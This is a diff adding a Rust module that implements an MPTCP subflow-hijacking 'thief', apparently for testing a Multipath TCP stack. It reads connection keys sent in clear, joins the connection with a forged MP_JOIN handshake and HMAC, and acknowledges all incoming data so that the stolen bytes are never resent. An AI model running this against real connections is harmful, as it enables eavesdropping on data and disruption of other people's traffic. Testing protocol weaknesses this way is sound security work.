@@ -1,0 +1,182 @@
+//! Somebody elsewhere who has seen the keys of a connection on a link (RFC 8684 section 3.1). The thief joins
+//! it with them, and acknowledges whatever the server then sends there, to TCP and to Multipath TCP, so that
+//! nobody sends it again.
+
+use core::net::{IpAddr, SocketAddr};
+use std::collections::BTreeMap;
+
+use braid_wire::mptcp::{Capable, Dss, Join, MptcpOption, WireDsn};
+use braid_wire::tcp::{self, Flags};
+use braid_wire::{Seq32, ip};
+use hmac::{Hmac, KeyInit, Mac};
+use sha2::{Digest, Sha256};
+
+/// Keys of a connection: the opener's, and the listener's.
+pub type Keys = (u64, u64);
+
+/// Subflows that are remembered; the one with the lowest address is forgotten first.
+const MAX_OPENED: usize = 1_024;
+
+/// A subflow that a thief opens.
+#[derive(Debug)]
+struct Opened {
+    keys: Keys,
+    nonce: u32,
+    /// The next sequence number of either end.
+    next: Option<(Seq32, Seq32)>,
+    /// Behind the last byte of the stream that came.
+    data_ack: Option<WireDsn>,
+}
+
+/// The thief.
+#[derive(Debug, Default)]
+pub struct Thief {
+    opened: BTreeMap<SocketAddr, Opened>,
+    /// Third ACKs that were sent.
+    pub tried: u64,
+    /// Payload bytes that came, repeated ones included.
+    pub taken: u64,
+}
+
+impl Thief {
+    /// Returns whether it opens, or has opened, a subflow from `local`.
+    pub fn is_at(&self, local: SocketAddr) -> bool {
+        self.opened.contains_key(&local)
+    }
+
+    /// Returns the SYN that joins the connection with these keys, from `local` to `server`.
+    pub fn join(
+        &mut self,
+        keys: Keys,
+        (local, server): (SocketAddr, SocketAddr),
+        (address_id, nonce): (u8, u32),
+    ) -> Vec<u8> {
+        let mut syn = tcp::Repr::new(local.port(), server.port(), Flags::SYN);
+        syn.window = u16::MAX;
+        syn.options.mss = Some(1_400);
+        syn.options.window_scale = Some(7);
+        let join = Join::Syn {
+            backup: false,
+            address_id,
+            token: token(keys.1),
+            nonce,
+        };
+        syn.options.mptcp.push(MptcpOption::Join(join));
+        if self.opened.len() >= MAX_OPENED {
+            self.opened.pop_first();
+        }
+        let opened = Opened {
+            keys,
+            nonce,
+            next: None,
+            data_ack: None,
+        };
+        self.opened.insert(local, opened);
+        packet((local.ip(), server.ip()), &syn, &[])
+    }
+
+    /// Returns the answer to a packet: to a SYN/ACK the third ACK by the keys, and to payload an
+    /// acknowledgement of all of it. `None` where the packet is for somebody else, or needs no answer.
+    pub fn answer(&mut self, received: &[u8]) -> Option<Vec<u8>> {
+        let (header, segment) = ip::Repr::parse(received).ok()?;
+        let (tcp, payload) = tcp::Repr::parse(segment).ok()?;
+        let local = SocketAddr::new(header.dst, tcp.dst_port);
+        let opened = self.opened.get_mut(&local)?;
+        let mut ack = tcp::Repr::new(tcp.dst_port, tcp.src_port, Flags::ACK);
+        ack.window = u16::MAX;
+        if let Some(Join::SynAck { nonce, .. }) = tcp.options.join() {
+            opened.next = Some((tcp.ack, tcp.seq.add(1)));
+            let nonces = [opened.nonce.to_be_bytes(), nonce.to_be_bytes()].concat();
+            let mut hmac = [0; 20];
+            hmac.copy_from_slice(&signed(opened.keys, &nonces)[..20]);
+            let join = MptcpOption::Join(Join::Ack { hmac });
+            ack.options.mptcp.push(join);
+            self.tried += 1;
+        } else {
+            if payload.is_empty() {
+                return None;
+            }
+            self.taken += payload.len() as u64;
+            opened.take(&tcp, payload.len());
+            ack.options.mptcp.push(MptcpOption::Dss(Dss {
+                data_ack: opened.data_ack,
+                ..Dss::default()
+            }));
+        }
+        (ack.seq, ack.ack) = opened.next?;
+        Some(packet((header.dst, header.src), &ack, &[]))
+    }
+}
+
+impl Opened {
+    /// Takes note of payload that came.
+    fn take(&mut self, tcp: &tcp::Repr, len: usize) {
+        let end = tcp.seq.add(len as u32);
+        if let Some((_, theirs)) = &mut self.next
+            && theirs.before(end)
+        {
+            *theirs = end;
+        }
+        let mapping = tcp.options.dss().and_then(|dss| dss.mapping);
+        if let Some(mapping) = mapping {
+            self.data_ack = Some(match mapping.dsn {
+                WireDsn::Four(n) => WireDsn::Four(n.wrapping_add(mapping.len.into())),
+                WireDsn::Eight(n) => WireDsn::Eight(n.wrapping_add(mapping.len.into())),
+            });
+        }
+    }
+}
+
+/// The keys that a third ACK shows to whoever sees it.
+pub fn keys_in(tcp: &tcp::Repr) -> Option<Keys> {
+    match tcp.options.capable() {
+        Some(
+            &Capable::Ack {
+                sender_key,
+                receiver_key,
+                ..
+            }
+            | &Capable::Data {
+                sender_key,
+                receiver_key,
+                ..
+            },
+        ) => Some((sender_key, receiver_key)),
+        _ => None,
+    }
+}
+
+/// The HMAC by the keys of sender and receiver (RFC 8684 sections 3.2, 3.4.1).
+pub fn signed((sender, receiver): Keys, message: &[u8]) -> [u8; 32] {
+    // HMAC pads a key shorter than its block with zeros.
+    let mut key = [0; 64];
+    key[..8].copy_from_slice(&sender.to_be_bytes());
+    key[8..16].copy_from_slice(&receiver.to_be_bytes());
+    let mut mac = Hmac::<Sha256>::new(&key.into());
+    mac.update(message);
+    mac.finalize().into_bytes().into()
+}
+
+/// Of the connection whose listener has this key (RFC 8684 section 3.1).
+fn token(key: u64) -> u32 {
+    let hash = Sha256::digest(key.to_be_bytes());
+    u32::from_be_bytes([hash[0], hash[1], hash[2], hash[3]])
+}
+
+/// A packet with right checksums.
+pub fn packet((src, dst): (IpAddr, IpAddr), tcp: &tcp::Repr, payload: &[u8]) -> Vec<u8> {
+    let mut header = vec![0; tcp.header_len()];
+    tcp.emit(&mut header);
+    tcp::fill_checksum(src, dst, &mut header, &[payload]);
+    let ip = ip::Repr {
+        src,
+        dst,
+        protocol: ip::PROTO_TCP,
+        payload_len: header.len() + payload.len(),
+        hop_limit: 64,
+        traffic_class: 0,
+    };
+    let mut bytes = vec![0; ip.header_len()];
+    ip.emit(&mut bytes);
+    [&bytes[..], &header, payload].concat()
+}
